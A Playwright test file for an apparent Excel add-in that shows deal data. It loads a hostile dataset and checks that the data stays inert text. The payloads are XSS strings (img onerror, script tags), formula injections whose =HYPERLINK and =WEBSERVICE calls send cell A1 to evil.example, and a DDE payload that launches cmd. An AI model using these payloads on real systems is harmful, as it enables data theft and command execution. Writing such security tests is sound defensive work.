/**
 * A dataset written by an attacker (or pasted from the web): company names, deal titles, notes, quotes and
 * source titles carrying HTML and script, and names that start with "=", "+", "-" or "@" as Excel formula
 * injection does. Loaded through Refresh, shown in the pane and written into tables and formulas, none of
 * it may run (no script, no markup, no CSP violation) and every such text lands in a cell as text.
 */
import type { Page, Route } from "playwright-core";
import type { DatasetFile } from "../../src/core/schema";
import { newerVersion, newerWithXaiAt } from "../support/datasets";
import { usePaneSession } from "./paneSession";

const pane = usePaneSession();
const { workbook } = pane;

/** Markup that, if it ever became HTML, would record that it ran. */
const img = (tag: string): string =>
  `<img src=x onerror="window.__pwned=(window.__pwned||[]).concat('${tag}')">`;
const script = (tag: string): string =>
  `<script>window.__pwned=(window.__pwned||[]).concat('${tag}')</script>`;

const NAMES = {
  xai: `${img("name")}xAI`,
  anthropic: `=HYPERLINK("https://evil.example/?"&A1,"Anthropic")`,
  openai: `@SUM(A1:A9) OpenAI`,
  amazon: `-cmd|' /C calc'!A0`,
  microsoft: `+Microsoft`,
};
const TITLE = `${script("title")} Amazon backs OpenAI`;
const QUOTE = `${img("quote")} =1+1 said the source`;
const NOTES = `=WEBSERVICE("https://evil.example/?"&A1) ${script("notes")}`;
const SOURCE_TITLE = `${img("source")}evil.example`;

function hostileDataset(): DatasetFile {
  const file = newerWithXaiAt(31e9, newerVersion(3));
  for (const [id, name] of Object.entries(NAMES)) {
    const company = file.companies.find((c) => c.id === id);
    if (!company) throw new Error(`no company ${id} in the bundled data`);
    company.name = name;
  }
  const deal = file.deals.find((d) => d.id === "amazon-openai-equity");
  const event = deal?.history[deal.history.length - 1];
  if (!deal || !event) throw new Error("no amazon-openai-equity deal in the bundled data");
  deal.title = TITLE;
  deal.notes = NOTES;
  event.quote = QUOTE;
  const source = file.sources.find((s) => s.id === event.source);
  if (!source) throw new Error(`no source ${event.source}`);
  source.title = SOURCE_TITLE;
  return file;
}

const serveHostile = async (page: Page): Promise<void> => {
  await page.route("**/data/dataset.json", (route: Route) =>
    route.fulfill({
      status: 200,
      contentType: "application/json",
      body: JSON.stringify(hostileDataset()),
    })
  );
};

/** Nothing of the data ran or became markup in the pane. */
async function expectNothingRan(p: Page): Promise<void> {
  await expect(
    p.evaluate(() => (window as unknown as { __pwned?: unknown }).__pwned)
  ).resolves.toBeUndefined();
  await expect(p.locator("img[src='x']").count()).resolves.toBe(0);
  await expect(
    p.evaluate(() => [...document.scripts].filter((s) => s.text.includes("__pwned")).length)
  ).resolves.toBe(0);
  expect(pane.problems).toEqual([]); // no CSP violation, console error or page error either
}

test("script and formula text in the data is shown and written as text, and nothing runs", async () => {
  await pane.open(serveHostile);
  const p = pane.page;

  await p.getByRole("tab", { name: "Refresh" }).click();
  await p.getByRole("button", { name: "Refresh data" }).click();
  await p.getByText("Data refreshed").waitFor();
  // The change summary names the company by its (hostile) name, as text.
  await expect(
    p.getByText(`${NAMES.xai} valuation $250.0B → $31.0B`, { exact: false }).isVisible()
  ).resolves.toBe(true);

  // A live valuation table: names go into cells as text, and into formulas as quoted strings.
  await p.getByRole("tab", { name: "Tables" }).click();
  await workbook.select("Sheet1", "A1");
  await pane.pick("Companies", "onerror", NAMES.xai);
  await pane.pick("Companies", "hyperlink", NAMES.anthropic);
  await pane.shot("14-hostile-names-picked"); // long names are cut short, not wider than the pane
  await p.getByRole("button", { name: "Insert valuation table" }).click();
  await p.getByText("Table DealsValuations inserted").waitFor();

  // A values exposure table for the investor named like a DDE payload.
  await p.getByRole("radio", { name: /^Exposure/ }).check();
  await pane.pick("Investors", "cmd", NAMES.amazon);
  await pane.pick("Investors", "+micro", NAMES.microsoft);
  await p.getByRole("radio", { name: /^Values/ }).check();
  await workbook.select("Sheet1", "A12");
  await p.getByRole("button", { name: "Insert exposure table" }).click();
  await p.getByText("Table DealsExposure inserted").waitFor();
  await pane.shot("15-hostile-tables");

  const snapshot = await workbook.snapshot();
  const values = snapshot.sheets.flatMap((s) => Object.values(s.cells).map((c) => c.value));
  // Each name is in a cell exactly as written: had Excel read it as a formula (as it reads "=", "+",
  // "-" and "@" typed into a cell), the cell would show what the formula computes, or an error.
  for (const name of Object.values(NAMES))
    expect([name, values.includes(name)]).toEqual([name, true]);
  // The live rows still compute: the quotes inside the names did not break the formulas.
  await expect(workbook.cell("Sheet1", "B3")).resolves.toMatchObject({ value: 31e9 });
  await expect(workbook.cell("Sheet1", "B3")).resolves.toMatchObject({
    formula: expect.stringContaining('onerror=""window.__pwned'),
  });

  // The deal browser shows the title and the quote as written, as text.
  await p.getByRole("tab", { name: "Deals" }).click();
  await p.getByRole("searchbox", { name: "Search deals" }).fill("backs openai");
  await p.getByText(/^\d+ deals?, newest first\.$/).waitFor();
  await expect(p.getByText(TITLE, { exact: true }).isVisible()).resolves.toBe(true);
  await expect(p.getByText(`“${QUOTE}”`, { exact: true }).isVisible()).resolves.toBe(true);
  await expect(p.getByRole("link", { name: SOURCE_TITLE }).isVisible()).resolves.toBe(true);
  await pane.shot("16-hostile-deal");

  // Its card preview shows the same text as text: title, quote, notes and the source's name.
  const hostile = p.getByRole("group", { name: TITLE, exact: true });
  await hostile.getByRole("button", { name: "Preview card" }).click();
  const preview = p.getByRole("region", { name: `Card preview: ${TITLE}` });
  await preview.waitFor();
  for (const shown of [QUOTE, NOTES])
    await expect(preview.getByText(shown, { exact: true }).isVisible()).resolves.toBe(true);
  await expect(preview.getByRole("link", { name: SOURCE_TITLE }).first().isVisible()).resolves.toBe(
    true
  );

  // A formula's text result is a value, never read as a formula.
  await workbook.set("Sheet1", "H1", '=DEALS.DEAL_FIELD("amazon-openai-equity","notes")');
  await expect(workbook.cell("Sheet1", "H1")).resolves.toMatchObject({ value: NOTES });

  await expectNothingRan(p);
});
